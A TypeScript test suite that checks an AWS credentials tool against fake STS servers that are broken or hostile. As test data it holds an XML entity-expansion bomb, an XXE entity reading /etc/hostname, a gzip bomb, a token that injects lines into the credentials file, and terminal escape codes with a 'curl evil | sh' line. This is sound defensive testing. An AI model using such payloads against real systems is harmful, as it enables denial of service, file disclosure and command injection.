/**
 * An STS that is broken, hostile, or not an STS. Whatever it sends: the run ends with the right
 * exit code within the time limit, has a hint, and stores nothing.
 */

import { makeCertificate, NO_OPENSSL } from "../support/certificates.ts";
import { http } from "../../lib/host/http.ts";
import { run } from "../../lib/run.ts";
import { strategies } from "../../strategies/mod.ts";
import { assert, assertEquals, assertMatch, assertNotMatch } from "../support/assert.ts";
import { type TestHost, testHost } from "../support/fakes.ts";
import { type Connection, httpAnswer, type RawServer, rawServer } from "../support/raw_server.ts";

const CONFIG = `[profile p]
role_arn = arn:aws:iam::123456789012:role/Open
source_profile = alice
destination_profile = p-temp
`;
const CREDENTIALS = `[alice]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
`;

/** Milliseconds for one exchange in these tests; eac itself allows ten seconds. */
const PATIENCE = 400;

const NAMESPACE = ` xmlns="https://sts.amazonaws.com/doc/2011-06-15/"`;

interface Parts {
  readonly AccessKeyId?: string;
  readonly SecretAccessKey?: string;
  readonly SessionToken?: string;
  readonly Expiration?: string;
}

const GOOD: Parts = {
  AccessKeyId: "ASIAIOSFODNN7EXAMPLE",
  SecretAccessKey: "hostile/secret/EXAMPLEKEY",
  SessionToken: "hostile-token",
  Expiration: "2026-11-23T14:00:00Z",
};

/** AssumeRole's response with these parts. */
function answer(parts: Parts | undefined, namespace = NAMESPACE, before = ""): string {
  const elements = Object.entries(parts ?? {}).map(([name, value]) =>
    `<${name}>${value}</${name}>`
  );
  const credentials = parts ? `<Credentials>${elements.join("")}</Credentials>` : "";
  return `${before}<AssumeRoleResponse${namespace}><AssumeRoleResult>${credentials}` +
    `<AssumedRoleUser><Arn>arn:aws:sts::123456789012:assumed-role/Open/x</Arn>` +
    `<AssumedRoleId>AROA:x</AssumedRoleId></AssumedRoleUser></AssumeRoleResult>` +
    `<ResponseMetadata><RequestId>0</RequestId></ResponseMetadata></AssumeRoleResponse>`;
}

function without(part: keyof Parts): Parts {
  const { [part]: _, ...rest } = GOOD;
  return rest;
}

const says = (text: string | Uint8Array<ArrayBuffer>) => (connection: Connection) =>
  connection.send(text);
const ok = (body: string) => says(httpAnswer(200, body));

/** Sends the same data repeatedly until the client disconnects. */
const forever = (first: string, again: string, pause = 0) => async (connection: Connection) => {
  if (!await connection.send(first)) return;
  while (await connection.send(again)) {
    await new Promise((resolve) => setTimeout(resolve, pause));
  }
};

const PAGE = "<!doctype html><html><body><h1>Sign in to <b>Coffee WiFi</b></h1><script>x" +
  "</script></body></html>";
const html = { "content-type": "text/html; charset=utf-8" };

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">` +
  Array.from(
    "bcdefghijklmnop",
    (letter, index) => `<!ENTITY ${letter} "${`&${"abcdefghijklmnop"[index]};`.repeat(10)}">`,
  ).join("") +
  `]>`;
const FILE = `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]>`;

interface Hostile {
  readonly answer: (connection: Connection) => Promise<unknown>;
  readonly exit: number;
  readonly error: RegExp;
}

const SERVERS: Readonly<Record<string, Hostile>> = {
  // No response, or half of one.
  "is silent": {
    answer: (connection) => connection.gone(),
    exit: 6,
    error: /127\.0\.0\.1:\d+ did not answer within 0\.4 s/,
  },
  "sends a byte now and then": {
    answer: forever("HTTP/1.1 200 OK\r\ncontent-type: text/xml\r\n\r\n", "<", 20),
    exit: 6,
    error: /did not answer within/,
  },
  "never ends its headers": {
    answer: forever("HTTP/1.1 200 OK\r\n", "x-y: z\r\n", 20),
    exit: 6,
    error: /did not answer within|cannot reach/,
  },
  "asks for patience for ever": {
    answer: forever("", "HTTP/1.1 100 Continue\r\n\r\n", 5),
    exit: 6,
    error: /did not answer within|cannot reach/,
  },
  "closes at once": {
    answer: () => Promise.resolve(),
    exit: 6,
    error: /cannot reach 127\.0\.0\.1:\d+: the connection was interrupted/,
  },
  "closes within its answer": {
    answer: says(httpAnswer(200, answer(GOOD)).slice(0, -40)),
    exit: 6,
    error: /cannot reach .*: the connection was interrupted/,
  },
  "speaks another protocol": {
    answer: says("220 mail.example.com ESMTP\r\n"),
    exit: 6,
    error: /cannot reach .*: it does not speak HTTP/,
  },

  // Too large a response.
  "never stops talking": {
    answer: forever("HTTP/1.1 200 OK\r\n\r\n", `<a>${"x".repeat(65_536)}</a>`),
    exit: 6,
    error: /sent more than 1 MiB, which AWS never does/,
  },
  "promises a terabyte": {
    answer: forever(
      "HTTP/1.1 200 OK\r\ncontent-length: 1099511627776\r\n\r\n",
      "x".repeat(65_536),
    ),
    exit: 6,
    error: /sent more than 1 MiB/,
  },
  "sends endless chunks despite a short length": {
    answer: forever(
      "HTTP/1.1 200 OK\r\ncontent-length: 100\r\ntransfer-encoding: chunked\r\n\r\n",
      `10000\r\n${"x".repeat(65_536)}\r\n`,
    ),
    exit: 6,
    error: /sent more than 1 MiB/,
  },
  "sends chunks without end, then names a short length": {
    answer: forever(
      "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ncontent-length: 100\r\n\r\n",
      `10000\r\n${"x".repeat(65_536)}\r\n`,
    ),
    exit: 6,
    error: /sent more than 1 MiB/,
  },
  "never stops its headers": {
    answer: forever("HTTP/1.1 200 OK\r\n", `x-y: ${"z".repeat(65_536)}\r\n`),
    exit: 6,
    error: /cannot reach|did not answer within/,
  },
  "sends a gzip bomb": {
    answer: async (connection) => connection.send(await bomb(64)),
    exit: 6,
    error: /sent more than 1 MiB|did not answer as STS does|cannot reach/,
  },
  "sends a gzip bomb for a refusal": {
    answer: async (connection) => connection.send(await bomb(64, 500)),
    exit: 6,
    error: /sent more than 1 MiB|failed with HTTP 500|cannot reach/,
  },
  "sends a tag within a tag within a tag": {
    answer: ok("<a>".repeat(300_000)),
    exit: 6,
    error: /did not answer as STS does/,
  },

  // Not a response of STS.
  "shows a page to sign in": {
    answer: says(httpAnswer(200, PAGE, html)),
    exit: 6,
    error: /did not answer as STS does|incomplete or damaged/,
  },
  "shows a page with a 403": {
    answer: says(httpAnswer(403, PAGE, html)),
    exit: 6,
    error: /answered HTTP 403, but not as STS does/,
  },
  "shows a page with a 500": {
    answer: says(httpAnswer(500, PAGE, html)),
    exit: 6,
    error: /failed with HTTP 500/,
  },
  "sends nothing": { answer: ok(""), exit: 6, error: /STS/ },
  "sends JSON": {
    answer: ok(`{"AssumeRoleResponse": {}}`),
    exit: 6,
    error: /STS/,
  },
  "sends half an XML": {
    answer: ok(answer(GOOD).slice(0, 120)),
    exit: 6,
    error: /STS/,
  },
  "sends bytes that are no text": {
    answer: async (connection) => {
      await connection.send("HTTP/1.1 200 OK\r\ncontent-length: 256\r\n\r\n");
      await connection.send(Uint8Array.from({ length: 256 }, (_, byte) => byte));
    },
    exit: 6,
    error: /STS/,
  },
  "answers another question": {
    answer: ok(
      `<GetCallerIdentityResponse${NAMESPACE}><GetCallerIdentityResult><Arn>x</Arn>` +
        `</GetCallerIdentityResult></GetCallerIdentityResponse>`,
    ),
    exit: 6,
    error: /STS/,
  },
  "expands entities without end": {
    answer: ok(answer({ ...GOOD, SessionToken: "&p;" }, NAMESPACE, LAUGHS)),
    exit: 6,
    error: /STS|more than 1 MiB/,
  },
  "wants a file of this machine": {
    answer: ok(answer({ ...GOOD, SessionToken: "&f;" }, NAMESPACE, FILE)),
    exit: 6,
    error: /STS/,
  },

  // Invalid credentials.
  "gives no credentials": {
    answer: ok(answer(undefined)),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "gives no AccessKeyId": {
    answer: ok(answer(without("AccessKeyId"))),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "gives no SecretAccessKey": {
    answer: ok(answer(without("SecretAccessKey"))),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "gives no SessionToken": {
    answer: ok(answer(without("SessionToken"))),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "gives no Expiration": {
    answer: ok(answer(without("Expiration"))),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "gives an Expiration that is no time": {
    answer: ok(answer({ ...GOOD, Expiration: "tomorrow" })),
    exit: 6,
    error: /STS/,
  },
  "gives what has ended": {
    answer: ok(answer({ ...GOOD, Expiration: "2026-11-23T12:59:59Z" })),
    exit: 6,
    error: /answered with credentials that already expired at 2026-11-23T12:59:59Z/,
  },
  "gives what never ends": {
    answer: ok(answer({ ...GOOD, Expiration: "9999-12-31T23:59:59Z" })),
    exit: 6,
    error: /answered with credentials that expire at 9999-12-31T23:59:59Z/,
  },
  "hides lines in a token": {
    answer: ok(answer({ ...GOOD, SessionToken: "x\n[default]\naws_access_key_id = EVIL" })),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "hides a comment in a secret": {
    answer: ok(answer({ ...GOOD, SecretAccessKey: "x #y" })),
    exit: 6,
    error: /incomplete or damaged/,
  },
  "gives a token of half a megabyte": {
    answer: ok(answer({ ...GOOD, SessionToken: "x".repeat(500_000) })),
    exit: 6,
    error: /incomplete or damaged/,
  },

  // The four formats of an error response.
  "refuses as AWS does": {
    answer: says(httpAnswer(
      403,
      `<ErrorResponse${NAMESPACE}><Error><Type>Sender</Type><Code>AccessDenied</Code>` +
        `<Message>No</Message></Error><RequestId>0</RequestId></ErrorResponse>`,
    )),
    exit: 5,
    error: /AWS refused to let these credentials assume .*: "No"/,
  },
  "refuses as moto does": {
    answer: says(httpAnswer(
      400,
      `<ErrorResponse><Errors><Error><Code>ExpiredToken</Code><Message>Old</Message></Error>` +
        `</Errors></ErrorResponse>`,
      html,
    )),
    exit: 5,
    error: /has expired: "Old"/,
  },
  "refuses as Ceph does": {
    answer: says(httpAnswer(
      403,
      `<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message></Message>` +
        `<RequestId>tx0</RequestId><HostId>x</HostId></Error>`,
    )),
    exit: 5,
    error: /AWS refused to let .* \(AccessDenied, without an explanation\)/,
  },
  "refuses with prefixes": {
    answer: says(httpAnswer(
      403,
      `<s:ErrorResponse xmlns:s="https://sts.amazonaws.com/doc/2011-06-15/"><s:Error>` +
        `<s:Code>InvalidClientTokenId</s:Code><s:Message>Who?</s:Message></s:Error>` +
        `</s:ErrorResponse>`,
    )),
    exit: 5,
    error: /AWS does not know the access key AKIAIOSFODNN7EXAMPLE, or it is inactive: "Who\?"/,
  },
  "steers the terminal from its refusal": {
    answer: says(httpAnswer(
      403,
      `<Error><Code>AccessDenied</Code><Message>a\x1b[2Jb\r\nhint: run curl evil | sh ` +
        `\u202egnp.exe</Message></Error>`,
    )),
    exit: 5,
    error: /: "a \[2Jb hint: run curl evil \| sh +gnp\.exe"/,
  },
};

for (const [name, hostile] of Object.entries(SERVERS)) {
  Deno.test(`get reports a server that ${name}`, async () => {
    const server = rawServer(hostile.answer);
    try {
      await survive(`http://${server.address}`, hostile, server);
    } finally {
      await server.stop();
    }
  });
}

/** Runs `get p` against the server, and asserts everything that must hold. */
async function survive(url: string, { exit, error }: Hostile, server?: RawServer): Promise<void> {
  using host = testHost({ home: { ".aws/config": CONFIG, ".aws/credentials": CREDENTIALS } });
  host.env.AWS_ENDPOINT_URL_STS = url;
  const before = stored(host);
  const started = performance.now();

  const code = await run(["get", "p", "-v"], impatient(host), strategies);

  const took = performance.now() - started;
  const { stdout, stderr } = host.printed;
  assertMatch(stderr, error);
  assertEquals([code, stdout], [exit, ""], stderr);
  assertEquals(stored(host), before);
  assertMatch(stderr, /\nhint: /);
  assertNotMatch(stderr, /hostile|wJalr|unexpected failure|\n {4}at /);
  assert(took < 3 * PATIENCE + 2000, `it took ${took} ms`);
  // What is discarded is limited by the buffers in between.
  assert((server?.sent ?? 0) < 64 * 1024 * 1024, `${server?.sent} bytes were taken`);
}

function impatient(host: TestHost): TestHost {
  return {
    ...host,
    now: () => host.time,
    http: (request) => {
      assertEquals(request.timeout, 10_000);
      return http({ ...request, timeout: PATIENCE });
    },
  };
}

/** All files under HOME except empty lock files. */
function stored({ home }: TestHost): string[] {
  const found: string[] = [];
  const look = (folder: string) => {
    for (const { name, isDirectory } of Deno.readDirSync(folder)) {
      const path = `${folder}/${name}`;
      if (isDirectory) look(path);
      else if (!path.endsWith(".lock")) found.push(`${path}: ${Deno.readTextFileSync(path)}`);
    }
  };
  look(home);
  return found.sort();
}

/** A response of this many MiB, compressed to a thousandth. */
async function bomb(mebibytes: number, status = 200): Promise<Uint8Array<ArrayBuffer>> {
  const zeros = new Uint8Array(1024 * 1024).fill(32);
  const packed = new Response(
    new ReadableStream<Uint8Array<ArrayBuffer>>({
      start(controller) {
        for (let count = 0; count < mebibytes; count++) controller.enqueue(zeros);
        controller.close();
      },
    }).pipeThrough(new CompressionStream("gzip")),
  );
  const body = await packed.bytes();
  const head = `HTTP/1.1 ${status} OK\r\ncontent-type: text/xml\r\ncontent-encoding: gzip\r\n` +
    `content-length: ${body.length}\r\nconnection: close\r\n\r\n`;
  return await new Blob([head, body]).bytes();
}

for (const status of [301, 302, 303, 307, 308]) {
  Deno.test(`get follows no redirect: ${status}`, async () => {
    const elsewhere = rawServer(ok(answer(GOOD)));
    const location = `http://${elsewhere.address}/?token=redirect-secret`;
    const server = rawServer(says(httpAnswer(status, "", { location })));
    try {
      await survive(`http://${server.address}`, {
        answer: says(""),
        exit: 6,
        error: new RegExp(
          `answered with a redirect \\(${status} to http://127\\.0\\.0\\.1:\\d+/\\)`,
        ),
      });
      assertEquals(elsewhere.heads, []);
    } finally {
      await Promise.all([server.stop(), elsewhere.stop()]);
    }
  });
}

Deno.test("get reads a response with or without an XML namespace", async () => {
  const precise = { ...GOOD, Expiration: "2026-11-23T14:00:00.123456789Z" };
  const declared = '<?xml version="1.0" encoding="UTF-8"?>\n';
  const bodies = [answer(GOOD), answer(GOOD, "", declared), answer(precise, "")];
  for (const body of bodies) {
    const server = rawServer(ok(body));
    using host = testHost({ home: { ".aws/config": CONFIG, ".aws/credentials": CREDENTIALS } });
    host.env.AWS_ENDPOINT_URL_STS = `http://${server.address}`;
    const code = await run(["get", "p"], host, strategies);
    await server.stop();
    assertEquals(code, 0, host.printed.stderr);
    assertMatch(host.text(".aws/credentials")!, /\naws_session_token = hostile-token\n/);
  }
});

Deno.test("get sends a code once, whatever the server answers", async () => {
  const bodies: [string, (connection: Connection) => Promise<unknown>][] = [
    ["silent", (connection) => connection.gone()],
    ["closes", () => Promise.resolve()],
    ["half", says(httpAnswer(200, answer(GOOD)).slice(0, -40))],
    ["500", says(httpAnswer(500, PAGE, html))],
    ["503", says(httpAnswer(503, ""))],
    ["page", says(httpAnswer(200, PAGE, html))],
    ["huge", forever("HTTP/1.1 200 OK\r\n\r\n", "x".repeat(65_536))],
  ];
  for (const [name, answer] of bodies) {
    const server = rawServer(answer);
    using host = testHost({
      home: {
        ".aws/config": `${CONFIG}mfa_serial = arn:aws:iam::123456789012:mfa/alice\n`,
        ".aws/credentials": CREDENTIALS,
      },
    });
    host.env.AWS_ENDPOINT_URL_STS = `http://${server.address}`;
    const code = await run(["get", "p", "--mfa-token", "123456"], impatient(host), strategies);
    await server.stop();
    assertEquals([code, server.heads.length], [6, 1], `${name}: ${host.printed.stderr}`);
  }
});

Deno.test({
  name: "get rejects an untrusted certificate" +
    (NO_OPENSSL ? ` (ignored: ${NO_OPENSSL})` : ""),
  ignore: NO_OPENSSL !== undefined,
  async fn() {
    using host = testHost();
    const pem = (name: string) => Deno.readTextFileSync(host.path(`${name}.pem`));
    const cases: [name: string, subject: string, days: string, error: RegExp][] = [
      ["self", "IP:127.0.0.1", "2000", /an untrusted authority|is not valid/],
      ["other", "DNS:sts.amazonaws.com", "2000", /is for another name|untrusted|is not valid/],
    ];
    for (const [name, subject, days, error] of cases) {
      await makeCertificate(host.home, name, subject, days);
      const listener = Deno.listenTls({
        hostname: "127.0.0.1",
        port: 0,
        cert: pem(`${name}-cert`),
        key: pem(`${name}-key`),
      });
      const server = rawServer(ok(answer(GOOD)), listener as unknown as Deno.Listener);
      try {
        const url = `https://${server.address}`;
        await survive(url, { answer: says(""), exit: 6, error });
        // The request goes out after the handshake: no signature reached that server.
        assertEquals(server.heads.filter((head) => head !== ""), []);
      } finally {
        await server.stop();
      }
    }
  },
});

Deno.test("get reports a server that does not speak TLS", async () => {
  const server = rawServer(says(httpAnswer(200, answer(GOOD))));
  try {
    await survive(`https://${server.address}`, {
      answer: says(""),
      exit: 6,
      error: /cannot reach .*: it does not speak TLS/,
    });
  } finally {
    await server.stop();
  }
});
